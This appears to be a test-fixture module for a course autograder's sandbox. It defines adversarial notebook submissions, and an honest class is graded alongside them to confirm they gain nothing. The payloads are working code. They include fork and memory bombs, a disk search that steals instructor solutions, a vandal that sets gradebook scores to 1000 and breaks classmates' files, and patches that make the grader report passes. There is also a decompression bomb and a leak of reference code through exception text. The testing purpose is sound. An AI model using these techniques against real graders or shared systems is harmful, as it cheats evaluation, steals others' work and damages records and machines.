"""Attacks on the grader, as Chapter 1 submissions: each must gain nothing and harm no one.

Every attack starts from the release with its stubs returning 0 instead of
raising (``RETURN_ZERO``), so that any point it scores is a point it stole; an
honest class is graded in the same batch and must get exactly its grades.
``tests/test_attacks.py`` grades them all together; it makes the disk-reading
and gradebook-writing attacks run once outside the sandbox too, to show that
they would work there.

``PORT`` is a loopback port the test listens on: the network attack reports
whether it reached it. The test's limits (5 s per cell, 45 s per submission)
are what ``attack-slow-cells`` is made for.
"""

from dataclasses import replace

import nbformat

from ..course import CHAPTERS
from ..regions import STUB_RE
from . import Edit, EditAll, Submission, corpus
from .feedforward import ALL, PATCH_FROM_CELL, PATCH_FROM_LIBRARY, RETURN_ZERO, SAMPLE_CLASS

PORT = 47913
MODULE_TOP = '"""\nimport numpy as np\n'


def _library(code):
    """Edits that make the release return 0 and append ``code`` to feedforward.py."""
    return (RETURN_ZERO, Edit(MODULE_TOP, MODULE_TOP + code + "\n"))


# Finds the instructor's (or any classmate's) feedforward.py on disk and takes
# its functions; prints every file it can read that holds a solution or a check.
STEAL = """
import os as _os, importlib.util as _util
def _candidates():
    here = _os.path.abspath(_os.getcwd())
    roots = [here]
    for _ in range(6):
        here = _os.path.dirname(here)
        roots.append(here)
    roots += ["/work", "/root", "/home", "/tmp", "/srv", "/opt"]
    seen = set()
    for root in roots:
        for folder, dirs, files in _os.walk(root):
            if folder.count("/") - root.count("/") > 5:
                dirs[:] = []
            dirs[:] = [d for d in dirs if d not in (".venv", ".pyenv", "site-packages", ".git")]
            for name in files:
                path = _os.path.join(folder, name)
                if name == "feedforward.py" and path not in seen:
                    seen.add(path)
                    yield path
def _load_as_package(path):
    # its folder as a package of its own, so that its relative imports resolve
    import sys as _sys
    folder, name = _os.path.dirname(path), "_stolen_%d" % len(_sys.modules)
    package = _util.spec_from_file_location(
        name, _os.path.join(folder, "__init__.py"), submodule_search_locations=[folder])
    _sys.modules[name] = _util.module_from_spec(package)
    package.loader.exec_module(_sys.modules[name])
    spec = _util.spec_from_file_location(name + ".feedforward", path)
    mod = _sys.modules[spec.name] = _util.module_from_spec(spec)
    spec.loader.exec_module(mod)
    return mod
def _steal():
    for path in _candidates():
        try:
            text = open(path).read()
            if "BEGIN SOLUTION" not in text and "raise NotImplementedError" in text:
                continue
            mod = _load_as_package(path)
            if abs(float(mod.sigmoid(0.0)) - 0.5) < 1e-9:
                print("STOLEN FROM", path)
                return mod
        except Exception:
            pass
import builtins as _builtins
_stolen = None
if not getattr(_builtins, "_stealing", False):  # not again inside a copy of this file
    _builtins._stealing = True
    try:
        _stolen = _steal()
    finally:
        _builtins._stealing = False
if _stolen is not None:
    for _name in dir(_stolen):
        if not _name.startswith("_"):
            globals()[_name] = getattr(_stolen, _name)
"""

SHOW_SECRETS = """
import os
for root in ["/work", "/root", "/tmp", os.path.dirname(os.path.dirname(os.getcwd()))]:
    for folder, dirs, files in os.walk(root):
        if folder.count("/") > 8:
            dirs[:] = []
        dirs[:] = [d for d in dirs if d not in (".venv", ".pyenv", "site-packages", ".git")]
        if folder.startswith(os.getcwd()):
            continue  # this submission's own files
        for name in files:
            if name.endswith(".py") and ("checks" in folder or name == "feedforward.py"):
                try:
                    text = open(os.path.join(folder, name)).read()
                except OSError:
                    continue
                if "BEGIN SOLUTION" in text or "@check(" in text:
                    print("SECRET", os.path.join(folder, name))
                    print(text)
"""

# Gives itself full marks in any gradebook it finds, and wrecks every other
# submission folder it can reach: classmates must lose nothing.
VANDAL = """
import glob as _glob, os as _os, sqlite3 as _sqlite3
def _vandalize():
    here = _os.path.abspath(_os.getcwd())
    for _ in range(6):
        for db in _glob.glob(_os.path.join(here, "*.db")):
            try:
                con = _sqlite3.connect(db)
                con.execute("UPDATE grade SET manual_score = 1000")
                con.commit()
                print("WROTE", db)
            except Exception as exc:
                print("gradebook:", exc)
        for lib in _glob.glob(_os.path.join(here, "*", "*", "*", "source_lib", "feedforward.py")):
            if _os.path.abspath(lib).startswith(_os.getcwd()):
                continue
            try:
                with open(lib, "a") as fh:
                    fh.write("\\nraise SystemExit('vandalized')\\n")
                print("VANDALIZED", lib)
            except OSError as exc:
                pass
        here = _os.path.dirname(here)
_vandalize()
"""

NETWORK = f"""
import socket
for host, port in (("127.0.0.1", {PORT}), ("1.1.1.1", 80), ("::1", {PORT})):
    try:
        socket.create_connection((host, port), timeout=3).close()
        print("CONNECTED", host, port)
    except OSError as exc:
        print("no connection to", host, port, exc)
"""

IGNORE_TERM = """
import signal, time
for _sig in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP):
    signal.signal(_sig, signal.SIG_IGN)
"""

FORK_BOMB = """
import os, time
while True:
    try:
        os.fork()
    except OSError:
        time.sleep(0.01)
"""

MEMORY_BOMB = """
_hog = []
while True:
    _hog.append(bytearray(256 * 1024 * 1024))
"""

# The grader's own side of the probe process (autograder/sandbox/probe_runner.py runs as
# __main__): make it report every output as passing, whatever that takes.
PATCH_GRADER = """
import sys as _sys, json as _json
_main = _sys.modules.get("__main__")
if _main is not None and hasattr(_main, "run_probe"):
    _real = _main.run_probe
    def _fake(module, probe, request_dir, _real=_real):
        _real(module, probe, request_dir)
        import os
        out = os.path.join(request_dir, probe["id"] + ".out.json")
        note = _json.load(open(out))
        note["status"] = "ok"
        _json.dump(note, open(out, "w"))
    _main.run_probe = _fake
    _main.to_plain = lambda value: (np.ones(3), None)
np.savez_compressed = np.savez
"""

ALWAYS_EQUAL = """
class _Anything:
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __float__(self): return 0.0
    def __len__(self): return 0
    shape = property(lambda self: ())
def _anything(*args, **kwargs):
    return _Anything()
"""

SUBCLASS = """
class _Sneaky(np.ndarray):
    def __eq__(self, other): return np.ones(np.shape(other), bool)
    def __array_ufunc__(self, *args, **kwargs): return True
    def __array_function__(self, *args, **kwargs): return True
def _sneaky(*args, **kwargs):
    return np.zeros(3).view(_Sneaky)
"""


# Replaces what the probe process hands back to the grader, after each probe,
# with what must never be parsed: a compressed file that inflates to 512 MB
# (the .npz of an older grader), a link to /dev/zero, or a FIFO nobody writes.
RESULTS = """
import io as _io, os as _os, sys as _sys, zipfile as _zipfile
def _inflating():
    buf = _io.BytesIO()
    with _zipfile.ZipFile(buf, "w", _zipfile.ZIP_DEFLATED) as z:
        with z.open("a0.npy", "w", force_zip64=True) as fh:
            np.lib.format.write_array_header_1_0(
                fh, {{"descr": "<f8", "fortran_order": False, "shape": (2**26,)}})
            for _ in range(32):
                fh.write(bytes(2**24))
    return buf.getvalue()
_main = _sys.modules.get("__main__")
if _main is not None and hasattr(_main, "run_probe"):
    _real, _kind = _main.run_probe, {kind!r}
    _bomb = _inflating() if _kind == "bomb" else None
    def _run(module, probe, request_dir, _real=_real):
        _real(module, probe, request_dir)
        for suffix in (".out", ".out.npz", ".out.json"):  # this grader's, and an older one's
            path = _os.path.join(request_dir, probe["id"] + suffix)
            if not _os.path.lexists(path) or (_kind == "bomb" and suffix == ".out.json"):
                continue
            _os.remove(path)
            if _kind == "bomb":
                open(path, "wb").write(_bomb)
            elif _kind == "fifo":
                _os.mkfifo(path)
            else:
                _os.symlink("/dev/zero", path)
    _main.run_probe = _run
"""


def _all_return(factory):
    return EditAll(STUB_RE, f"return {factory}()")


def _blank_tests(nb):
    """Every test cell says pass (the grader must run the real ones)."""
    for cell in nb.cells:
        meta = cell.metadata.get("nbgrader", {})
        if meta.get("grade") and cell.cell_type == "code":
            cell.source = "print('OK: all tests passed')"
            meta["points"] = 100


def _delete_tests(nb):
    nb.cells = [
        c for c in nb.cells if not (c.metadata.get("nbgrader", {}).get("grade") and c.cell_type == "code")
    ]


def _slow_cells(nb):
    """Twelve cells of 4 s each: each within the cell time limit, together over the submission's."""
    for _ in range(12):
        nb.cells.insert(1, nbformat.v4.new_code_cell("import time\ntime.sleep(4)"))


def _attack(student, description, **kwargs):
    return Submission(student, description, library="release", fails=ALL, kind="attack", **kwargs)


ATTACKS = [
    _attack("attack-infinite-loop", "a cell that never ends", cell="while True:\n    pass\n"),
    _attack(
        "attack-loop-in-library",
        "source_lib that never finishes importing",
        edits=_library("while True:\n    pass\n"),
    ),
    _attack("attack-memory-bomb", "a cell that allocates until it dies", cell=MEMORY_BOMB),
    _attack("attack-memory-bomb-library", "source_lib that allocates at import", edits=_library(MEMORY_BOMB)),
    _attack("attack-fork-bomb", "a cell that forks until it cannot", cell=FORK_BOMB),
    _attack("attack-fork-bomb-library", "source_lib that forks at import", edits=_library(FORK_BOMB)),
    _attack(
        "attack-output-spam",
        "a cell that prints 100 MB",
        cell="for _ in range(100):\n    print('x' * (1024 * 1024 - 1))\n",
    ),
    _attack("attack-sys-exit-cell", "sys.exit(0) in a cell", cell="import sys\nsys.exit(0)\n"),
    _attack("attack-os-exit-cell", "os._exit(0) in a cell", cell="import os\nos._exit(0)\n"),
    _attack(
        "attack-sys-exit-import",
        "sys.exit(0) when source_lib is imported",
        edits=_library("import sys\nsys.exit(0)\n"),
    ),
    _attack(
        "attack-os-exit-import",
        "os._exit(0) when source_lib is imported",
        edits=_library("import os\nos._exit(0)\n"),
    ),
    _attack(
        "attack-patch-cell",
        "patches numpy.allclose, numpy.testing and the checks from a cell",
        edits=(RETURN_ZERO,),
        cell=PATCH_FROM_CELL,
    ),
    _attack(
        "attack-patch-library",
        "patches numpy, builtins and the checks from source_lib",
        edits=_library(PATCH_FROM_LIBRARY),
    ),
    _attack(
        "attack-patch-grader",
        "patches the grader's probe process from source_lib",
        edits=_library(PATCH_GRADER),
    ),
    _attack(
        "attack-always-equal",
        "returns an object equal to everything",
        edits=(Edit(MODULE_TOP, MODULE_TOP + ALWAYS_EQUAL), _all_return("_anything")),
    ),
    _attack(
        "attack-ndarray-subclass",
        "returns a numpy subclass that compares equal to anything",
        edits=(Edit(MODULE_TOP, MODULE_TOP + SUBCLASS), _all_return("_sneaky")),
    ),
    _attack(
        "attack-steal-solution",
        "takes the instructor's or a classmate's code from disk",
        edits=(RETURN_ZERO, EditAll(r"\Z", STEAL)),
        cell=SHOW_SECRETS,
    ),  # after the stubs
    _attack(
        "attack-vandal",
        "writes the gradebook and classmates' folders, from a cell and from source_lib",
        edits=_library(VANDAL),
        cell=VANDAL,
    ),
    _attack("attack-network", "opens network connections", cell=NETWORK, edits=_library(NETWORK)),
    _attack("attack-edit-tests", "replaces every test cell by a pass", transform=_blank_tests),
    _attack("attack-delete-tests", "deletes every test cell", transform=_delete_tests),
    _attack("attack-slow-cells", "many slow cells, longer than a submission may take", transform=_slow_cells),
    _attack(
        "attack-results-bomb",
        "hands back a compressed result that inflates to 512 MB",
        edits=_library(RESULTS.format(kind="bomb")),
    ),
    _attack(
        "attack-results-zero",
        "hands back links to /dev/zero as its results",
        edits=_library(RESULTS.format(kind="zero")),
    ),
    _attack(
        "attack-results-fifo", "hands back FIFOs as its results", edits=_library(RESULTS.format(kind="fifo"))
    ),
    _attack(
        "attack-ignore-sigterm",
        "ignores SIGTERM and SIGINT, then never ends",
        cell=IGNORE_TERM + "while True:\n    time.sleep(0.1)\n",
        edits=_library(IGNORE_TERM + "while True:\n    time.sleep(0.1)\n"),
    ),
]

# An honest student whose back_propagation is far too slow on the hidden inputs
# (not in the notebook, where it is quick): it loses that task only, and is told
# which function ran out of time; every later check still gets a budget of its own.
SLOW_CHECK = Submission(
    "slow-back-propagation",
    "back_propagation takes minutes on the hidden inputs",
    edits=(
        Edit(
            "def back_propagation(X, Y_T, weights):\n",
            "def back_propagation(X, Y_T, weights):\n"
            "    import sys, time\n"
            "    if 'ipykernel' not in sys.modules:\n"
            "        time.sleep(300)\n",
        ),
    ),
    fails=frozenset({"feedforward.back_propagation"}),
    kind="attack",
)

# Chapter 5's training is graded on the course's cost, lent to the student's code:
# this one looks for that cost's source or bytecode wherever its process can
# reach, and sends what it finds back inside its exception message.
READ_LENT = """
def _read_lent():
    import glob, inspect, marshal, os, sys
    found = []
    ref = sys.modules.get("source_lib._reference_autoencoder")
    fn = getattr(ref, "sparse_autoencoder_loss", None)
    for get in (lambda: inspect.getsource(fn), lambda: inspect.getsource(ref),
                lambda: repr(marshal.dumps(fn.__code__))):
        try:
            found += get().splitlines()
        except Exception:
            pass
    for path in glob.glob(os.path.join(os.path.dirname(__file__), "*.py")):
        if not path.endswith("autoencoder.py") or "_reference_" in path:
            found += open(path).read().splitlines()
    lines = [line.strip() for line in found if "rho" in line or "W1" in line]
    raise RuntimeError(" | ".join(lines))
"""
LENT_CHAPTER = next(c for c in CHAPTERS if c.module == "autoencoder")
LENT_ATTACKS = [
    Submission(
        "attack-read-lent-code",
        "reads the course's cost lent to its training",
        library="release",
        fails=None,
        edits=(
            Edit('"""\nimport numpy as np\n', '"""\nimport numpy as np\n' + READ_LENT),
            EditAll(STUB_RE.replace(r"(\d+\.\d+)", r"5\.3"), "return _read_lent()"),
        ),
        kind="attack",
    ),
]
LENT_HONEST = [s for s in corpus("autoencoder").SAMPLE_CLASS if s.student == "solution"]

# Graded in the same batch: their grades must be exactly what they are alone.
HONEST = [s for s in SAMPLE_CLASS if s.student in ("solution", "alt-formulas", "bug-bias-axis")]
# ... and one honest student who wrote the solution late at night: still full marks.
HONEST.append(replace(HONEST[0], student="solution-twin"))
